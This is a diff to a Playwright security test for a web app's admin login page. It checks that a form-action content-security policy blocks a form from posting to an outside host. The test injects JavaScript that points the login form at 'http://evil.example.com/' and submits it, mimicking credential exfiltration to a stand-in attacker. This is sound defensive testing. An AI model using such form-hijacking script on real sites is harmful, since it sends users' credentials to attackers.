@@ -31,16 +31,17 @@ def inside_wecom(browser: Browser, server: str, corp: Corp, company: User, setti
 def test_a_form_that_leads_elsewhere_is_not_sent(browser: Browser, server: str, company: User) -> None:
     context = browser.new_context()
     page = context.new_page()
-    asked: list[str] = []
+    sent: list[str] = []
     page.goto(f"{server}/admin/login/")
-    page.on("response", lambda answer: asked.append(answer.url))
+    page.on("request", lambda request: sent.append(request.url))
 
     with page.expect_console_message(lambda message: "form-action" in message.text):
         page.evaluate(
             """() => { const form = document.forms[0]; form.action = 'http://evil.example.com/'; form.submit(); }"""
         )
 
-    assert (asked, page.url) == ([], f"{server}/admin/login/")
+    assert [url for url in sent if not url.startswith(f"{server}/static/")] == []
+    assert page.url == f"{server}/admin/login/"
     context.close()
 
 
